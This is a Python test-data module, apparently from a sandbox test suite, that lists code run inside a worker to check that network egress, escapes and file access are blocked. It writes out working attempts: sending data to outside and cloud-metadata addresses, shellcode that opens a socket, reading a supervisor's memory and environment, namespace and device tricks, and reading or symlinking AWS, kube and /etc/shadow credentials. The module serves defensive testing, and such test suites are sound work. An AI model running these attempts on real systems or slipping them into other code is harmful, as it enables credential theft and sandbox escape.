"""The attempts, by the ids of tests/data/egress/attacks.yaml; each is code that runs in a worker.

`{…}` are filled in by the scene. An attempt that raises nothing was able to do what it tried.
Ids that begin with X are ours: classes of the same groups that the table does not list.
"""

SOCKETS = """
import ctypes, errno, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
def checked(value):
    if value == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return value
def in_child(attempt):
    child = os.fork()
    if child == 0:
        try:
            attempt()
            os._exit(0)
        except OSError as error:
            os._exit(error.errno or 255)
    number = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if number:
        raise OSError(number, os.strerror(number))
"""

EGRESS = {
    "EG-006": "socket.create_connection(('23.20.0.12', 443), 2).sendall(b'CANARY')",
    "EG-006-v6": "socket.create_connection(('2600:1f00::12', 443), 2).sendall(b'CANARY')",
    "EG-006-private": "socket.create_connection(('10.9.9.9', 80), 2).sendall(b'CANARY')",
    "EG-006-metadata": "socket.create_connection(('169.254.169.254', 80), 2).sendall(b'CANARY')",
    "EG-009": "socket.create_connection(('127.0.0.1', {host_port}), 2).sendall(b'CANARY')",
    "EG-012": "socket.socket(2, 2).sendto(b'CANARY', ('23.20.0.12', 443))",
    "EG-012-connected": """
opened = socket.socket(2, 2)
opened.connect(('23.20.0.12', 443))
opened.send(b'CANARY')
""",
    "EG-012-dns": """
opened = socket.socket(2, 2)
opened.settimeout(2)
query = b'ab' + bytes.fromhex('01000001000000000000') + b'\\x06canary\\x04test\\0\\0\\x01\\0\\x01'
opened.sendto(query, ('23.20.0.53', 53))
""",
    "EG-015": """
opened = socket.socket(2, socket.SOCK_RAW, 1)
opened.sendto(bytes.fromhex('0800f7ff00000000'), ('23.20.0.12', 0))
""",
    "EG-015-packet": "socket.socket(17, socket.SOCK_RAW, 0)",
    # Never connected: only the making of the socket is tried.
    "EG-018": "socket.socket(40, socket.SOCK_STREAM)",
    "EG-021": """
opened = socket.socket(2, socket.SOCK_STREAM, 132)
opened.settimeout(2)
opened.connect(('23.20.0.12', 443))
""",
    "EG-024": """
opened = socket.socket(2, 1)
opened.settimeout(2)
opened.setsockopt(6, 30, 1)
opened.connect(('23.20.0.12', 443))
opened.send(b'CANARY')
""",
    "EG-024-sendto": """
opened = socket.socket(2, 1)
opened.settimeout(2)
opened.sendto(b'CANARY', 0x20000000, ('23.20.0.12', 443))
""",
    "EG-024-mptcp": """
opened = socket.socket(2, 1, 262)
opened.settimeout(2)
opened.connect(('23.20.0.12', 443))
opened.send(b'CANARY')
""",
    "EG-027": """
import mmap
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# push rbx; eax=359 (socket), ebx=2, ecx=1, edx=0; int 0x80; pop rbx; ret
page.write(bytes.fromhex('53b867010000bb02000000b90100000031d2cd805bc3'))
entry = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
child = os.fork()
if child == 0:
    number = entry()
    if number < 0:
        os._exit(1)
    opened = socket.socket(2, 1, 0, fileno=number)
    opened.settimeout(2)
    try:
        opened.connect(('23.20.0.12', 443))
    except OSError:
        os._exit(1)
    os._exit(0)
ended = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
if ended != 0:
    raise OSError(-ended if ended < 0 else errno.EPERM, f'ended with {ended}')
""",
    "EG-030": """
child = os.fork()
if child == 0:
    os.setsid()
    os.closerange(1, 3)
    if os.fork() == 0:
        import time
        time.sleep({daemon_s})
        try:
            socket.create_connection(('23.20.0.12', 80), 2).sendall(b'DAEMON')
        except OSError:
            pass
        time.sleep(8)
    os._exit(0)
os.waitpid(child, 0)
""",
    "EG-033": """
for name in [n for n in os.environ if n.lower().endswith('_proxy')]:
    del os.environ[name]
import urllib.request
urllib.request.build_opener(urllib.request.ProxyHandler({})).open('http://23.20.0.12/', timeout=2)
""",
    "EG-033-name": "socket.getaddrinfo('api.good.test', 443)",
    "X-io-uring": """
size = ctypes.create_string_buffer(120)
checked(libc.syscall(425, 4, size))
""",
    "X-netlink": "socket.socket(16, socket.SOCK_RAW, 0)",
    "X-unix-datagram-pair": "socket.socketpair(1, socket.SOCK_DGRAM)",
    "X-listen": """
opened = socket.socket(2, 1)
opened.bind(('0.0.0.0', 0))
opened.listen(1)
""",
}
# Rows of their own that nothing but the filter stops: harmless without it, but refused with it.
FILTER_ONLY = {
    *("EG-018", "X-io-uring", "X-netlink", "X-unix-datagram-pair", "X-listen"),
    *("EG-043-kcmp", "EG-046-keyctl"),
}

ESCAPES = {
    # The attempt fails where only the channel is open; the numbers are the result otherwise.
    "EG-037": """
import stat
found = []
for number in range(3, 256):
    try:
        about = os.fstat(number)
    except OSError:
        continue
    if stat.S_ISSOCK(about.st_mode) and number != channel.fileno():
        found.append(number)
if not found:
    raise OSError(errno.EBADF, 'no socket but the channel')
os.write(found[0], b'CANARY')
""",
    "EG-040": "socket.socket(1, 1).connect('{path_socket}')",
    "EG-040-datagram": "socket.socket(1, 2).sendto(b'CANARY', '{path_socket}')",
    "EG-040-abstract": "socket.socket(1, 1).connect('\\0{abstract}')",
    "EG-043": """
class Vector(ctypes.Structure):
    _fields_ = (('base', ctypes.c_void_p), ('size', ctypes.c_size_t))
here = ctypes.create_string_buffer(8)
ours, theirs = Vector(ctypes.addressof(here), 8), Vector({address}, 8)
checked(libc.process_vm_readv({supervisor}, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))
""",
    "EG-043-ptrace": "checked(libc.ptrace(0x4206, {supervisor}, 0, 0))",
    "EG-043-pidfd": """
other = os.pidfd_open({supervisor})
checked(libc.syscall(438, other, 0, 0))
""",
    "EG-043-environ": "open('/proc/{supervisor}/environ').read()",
    "EG-043-signal": "os.kill({supervisor}, 0)",
    "EG-043-limits": """
import resource
resource.prlimit({supervisor}, resource.RLIMIT_CORE)
""",
    "EG-046": "in_child(lambda: checked(libc.unshare(0x10000000)))",
    "EG-046-net": "in_child(lambda: checked(libc.unshare(0x10000000 | 0x40000000)))",
    "EG-046-clone3": """
# flags, pidfd, child_tid, parent_tid, exit_signal: CLONE_NEWUSER
asked = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
child = libc.syscall(435, ctypes.byref(asked), 88)
if child == 0:
    os._exit(0)
checked(child)
os.waitpid(child, 0)
""",
    "EG-046-setns": "in_child(lambda: checked(libc.setns(os.open('/proc/self/ns/net', os.O_RDONLY), 0x40000000)))",
    "EG-046-mount": "in_child(lambda: checked(libc.mount(b'none', b'{secrets}', b'tmpfs', 0, None)))",
    "EG-049": "checked(libc.syscall(321, 5, ctypes.create_string_buffer(128), 128))",
    "EG-049-perf": """
asked = ctypes.create_string_buffer(128)
struct.pack_into('=II', asked, 0, 1, 128)
checked(libc.syscall(298, asked, -1, 0, -1, 0))
""",
    "EG-052": """
import subprocess
done = subprocess.run(
    ['/usr/bin/su', '-c', 'id -u', 'nobody'], capture_output=True, stdin=subprocess.DEVNULL
)
if done.returncode != 0:
    raise OSError(errno.EPERM, done.stderr.decode())
""",
    "EG-052-setuid": "in_child(lambda: os.setuid({other_uid}))",
    "EG-055": "os.mknod('{staging}/device', 0o20600, os.makedev(10, 200))",
    "EG-055-mem": "os.mknod('{staging}/memory', 0o20600, os.makedev(1, 1))",
    "EG-055-kvm": "os.open('/dev/kvm', os.O_RDWR)",
    "EG-055-tun": "os.open('/dev/net/tun', os.O_RDWR)",
    "EG-055-kmsg": "os.open('/dev/kmsg', os.O_RDONLY)",
    "X-sysctl": "open('/proc/sys/kernel/core_pattern', 'a').write('')",
    "X-core-pattern": "open('/proc/sys/kernel/core_pattern', 'r+').close()",
    "X-sysrq": "open('/proc/sysrq-trigger', 'w').close()",
    "X-shared-memory": "checked(libc.shmget(0x4242, 4096, 0o1666))",
}

FILES = {
    "EG-057": "open('{secrets}/.aws/credentials').read()",
    "EG-057-kube": "open('{secrets}/.kube/config').read()",
    "EG-057-list": "os.listdir('{secrets}')",
    "EG-057-shadow": "open('/etc/shadow').read()",
    "EG-057-hostname": "open('/etc/machine-id').read()",
    "EG-060": "os.symlink('{secrets}/.aws/credentials', '{staging}/part-0.parquet')",
    "EG-060-pipe": "os.mkfifo('{staging}/pipe')",
    "EG-060-link": "os.link('{source}', '{staging}/linked')",
    "X-overwrite": "open('{source}', 'a')",
    "X-delete": "os.unlink('{source}')",
    "X-create-beside": "open('{source}.new', 'w')",
    "X-replace-package": "open('{package}', 'a')",
    "X-exec-staged": """
open('{staging}/program', 'w').write('#!/bin/sh\\nexit 0\\n')
os.chmod('{staging}/program', 0o755)
os.execv('{staging}/program', ['program']) if os.fork() == 0 else os.wait()
raise OSError(errno.EACCES, 'whatever it was, it was not this process')
""",
}

# What a worker must be able to do, at every level; else the walls are those of a grave.
WORKS = {
    "read-source": "result = open('{source}').read()",
    "list-source": "result = os.listdir('{folder}')",
    "write-staging": "open('{staging}/part-1', 'w').write('x')",
    "rename-in-staging": """
os.mkdir('{staging}/sub')
open('{staging}/part-2', 'w').write('x')
os.rename('{staging}/part-2', '{staging}/sub/part-2')
""",
    "scratch": """
import tempfile
with tempfile.NamedTemporaryFile() as file:
    file.write(b'x')
""",
    "threads": """
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(4) as pool:
    assert list(pool.map(abs, [-1, -2])) == [1, 2]
""",
    "asyncio": "import asyncio; asyncio.run(asyncio.sleep(0))",
    "child-program": """
import subprocess, sys
subprocess.run([sys.executable, '-I', '-S', '-c', 'pass'], check=True)
""",
    "arrow": """
import pyarrow as pa, pyarrow.parquet as pq
pq.write_table(pa.table({'a': range(1000)}), '{staging}/a.parquet')
assert pq.read_table('{staging}/a.parquet').num_rows == 1000
""",
    "duckdb": """
import duckdb
with duckdb.connect(config={'temp_directory': '{staging}/spill'}) as opened:
    rows = opened.execute("select sum(a) from '{staging}/a.parquet'").fetchall()
    assert rows == [(499500,)]
""",
    "deltalake": """
import deltalake, pyarrow as pa
deltalake.write_deltalake('{staging}/delta', pa.table({'a': [1, 2]}))
assert deltalake.DeltaTable('{staging}/delta').to_pyarrow_table().num_rows == 2
""",
    "polars": """
import polars
assert polars.read_parquet('{staging}/a.parquet')['a'].sum() == 499500
""",
    "wasm": """
from batuta.formats.ald.checksum import *
""",
}

# Client libraries, each with its own way to the network.
CLIENTS = {
    "python-urllib": "import urllib.request; urllib.request.urlopen('http://23.20.0.12/', timeout=2)",
    "rust-obstore": """
import obstore
store = obstore.store.S3Store('b', endpoint='http://23.20.0.12', access_key_id='a',
    secret_access_key='b', client_options={'allow_http': True, 'timeout': '2s'},
    retry_config={'max_retries': 0}, region='x', virtual_hosted_style_request=False)
try:
    obstore.get(store, 'x')
except Exception as error:
    raise OSError(errno.EACCES, str(error))
""",
    "rust-deltalake": """
import deltalake
try:
    deltalake.DeltaTable('s3://b/x', storage_options={'AWS_ENDPOINT_URL': 'http://23.20.0.12',
        'AWS_ALLOW_HTTP': 'true', 'AWS_ACCESS_KEY_ID': 'a', 'AWS_SECRET_ACCESS_KEY': 'b',
        'AWS_REGION': 'x', 'timeout': '2s', 'max_retries': '0'})
except Exception as error:
    raise OSError(errno.EACCES, str(error))
""",
    "c++-pyarrow-s3": """
from pyarrow.fs import S3FileSystem, AwsStandardS3RetryStrategy
S3FileSystem(access_key='a', secret_key='b', endpoint_override='23.20.0.12', scheme='http',
    region='x', connect_timeout=2, request_timeout=2,
    retry_strategy=AwsStandardS3RetryStrategy(max_attempts=1)).open_input_stream('b/x')
""",
    "python-s3fs": """
import s3fs
try:
    s3fs.S3FileSystem(key='a', secret='b', endpoint_url='http://23.20.0.12',
        config_kwargs={'connect_timeout': 2, 'retries': {'max_attempts': 0}}).ls('b')
except Exception as error:
    raise OSError(errno.EACCES, str(error))
""",
    "c-curl": """
import subprocess
done = subprocess.run(['curl', '-s', '-m', '2', 'http://23.20.0.12/'], capture_output=True)
if done.returncode:
    raise OSError(errno.EACCES, str(done.returncode))
""",
}


# Ways to speak to the gateway: each must be answered, wherever it was aimed at.
_SPEAK = """
with socket.create_connection(('127.0.0.1', 3128), 5) as opened:
    opened.setsockopt(6, 1, 1)
    opened.sendall(b'blocking')
    result = opened.recv(100).decode()
"""
GATEWAY = {
    "blocking": _SPEAK,
    "elsewhere": _SPEAK.replace("127.0.0.1", "23.20.0.12").replace("b'blocking'", "b'elsewhere'"),
    "asyncio": """
import asyncio
async def speak():
    reader, writer = await asyncio.open_connection('127.0.0.1', 3128)
    writer.write(b'asyncio')
    answer = await reader.read(100)
    writer.close()
    return answer.decode()
result = asyncio.run(speak())
""",
    "unblocking": """
import time
with socket.socket() as opened:
    opened.setblocking(False)
    try:
        opened.connect(('127.0.0.1', 3128))
    except BlockingIOError:
        time.sleep(0.5)
    try:
        opened.recv(100)
        raise ValueError('a socket that must not block had something to read')
    except BlockingIOError:
        result = 'did not block'
    opened.send(b'unblocking')
""",
}


def attempts(group: dict[str, str], **filled: object) -> dict[str, str]:
    """Return the code of a group with its places filled in."""
    return {name: SOCKETS + _fill(code, filled) for name, code in group.items()}


def _fill(code: str, filled: dict[str, object]) -> str:
    for name, value in filled.items():
        code = code.replace(f"{{{name}}}", str(value))
    return code
